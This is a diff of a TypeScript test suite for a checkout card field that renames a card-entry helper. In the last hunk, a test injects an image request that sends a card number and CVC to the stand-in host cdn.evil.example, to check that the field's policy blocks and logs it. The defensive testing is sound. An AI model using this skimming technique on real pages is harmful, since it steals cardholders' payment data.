@@ -19,7 +19,7 @@ import { operatorDeps } from '../../tools/demo.ts';
 import { openContext } from '../setup/browser.ts';
 import { eventually } from '../setup/eventually.ts';
 import { synthesizedApp } from '../setup/synthesized.ts';
-import { type CheckoutOptions, complaint, openCheckout, tokenOf, typeCard } from './checkout.ts';
+import { type CheckoutOptions, complaint, giveCard, openCheckout, tokenOf } from './checkout.ts';
 import { openFields, typeFields } from './fields.ts';
 import { type Listening, startShopPage } from './test-vault.ts';
 
@@ -68,7 +68,7 @@ test('near a ceiling the field proves its work unseen, and over it says to try a
   await setLimits(operator, { merchantId: merchant.merchant_id, mode: 'test', limits });
   const key = keys.find(({ record }) => record.kind === 'publishable' && record.mode === 'test')?.key.clearText() ?? '';
   const page = await checkout({ key });
-  await typeCard(page);
+  await giveCard(page);
   expect(tokenOf(await page.tokenize())).toMatchObject({ status: 'active' });
   expect((await page.tokenize()).error).toMatchObject({ code: 'too_many_attempts' });
 });
@@ -117,7 +117,7 @@ test('a card that no test takes is refused at its field, in the cardholder’s l
   // Made here, because no card number but published test cards is written down in this repository.
   const digits = '0123456789'.split('').map((last) => `${'4'.repeat(14)}0${last}`);
   const page = await checkout();
-  await typeCard(page, { number: digits.find(passesLuhn) ?? '', expiry: '1230', cvc: '837' });
+  await giveCard(page, { number: digits.find(passesLuhn) ?? '', expiry: '1230', cvc: '837' });
   expect((await page.tokenize()).error).toMatchObject({ code: 'test_card_required' });
   expect(await page.frame.locator('#number-fault').textContent()).toMatch(/テスト用カード/);
   await page.close();
@@ -269,7 +269,7 @@ describe('what the policy of the field refuses', () => {
 
   test('reaches the log and its metric, as the page, the directive and the site, without the rest of the address', async () => {
     const opened = await checkout();
-    await typeCard(opened);
+    await giveCard(opened);
     await opened.frame.locator('html').evaluate(() => {
       const picture = new Image();
       picture.src = `https://${'4242'.repeat(4)}.cdn.evil.example/${'4242'.repeat(4)}?cvc=837#fragment`;
